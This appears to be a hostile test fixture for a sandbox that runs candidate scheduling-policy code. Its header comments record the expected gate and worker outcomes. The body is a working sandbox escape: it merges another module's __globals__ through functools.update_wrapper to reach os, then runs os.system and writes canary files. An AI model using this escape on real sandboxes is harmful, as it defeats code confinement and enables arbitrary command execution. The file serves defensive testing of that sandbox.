# hostile: class 1 -- functools.update_wrapper with a run-time "__globals__" merges another module's globals (sys, os) into the candidate's
# axis: scheduling
# gate: reject 'functools.update_wrapper' is not available
# worker: violation blocked operation: os.system
# worker-noaudit: violation PermissionError
import functools
import statistics

D = "_" * 2
GLOBALS = D + "globals" + D


def f():
    return 0


class P(SchedulingPolicy):
    def priority(self, pcb, now):
        try:
            merge = functools.update_wrapper  # what the attack used (the gate is off here)
        except AttributeError:
            # not in the worker's functools: the real one, through statistics.mean's own
            # globals (an attribute CPython does not audit)
            merge = statistics.mean.__globals__["sys"].modules["functools"].update_wrapper
        merge(f, statistics.mean, assigned=(), updated=(GLOBALS,))
        os = f.__globals__["random"]._os
        os.system("touch /tmp/agentservesim-canary/59")
        return os.open("/tmp/agentservesim-canary/59b", os.O_CREAT | os.O_WRONLY, 0o666)
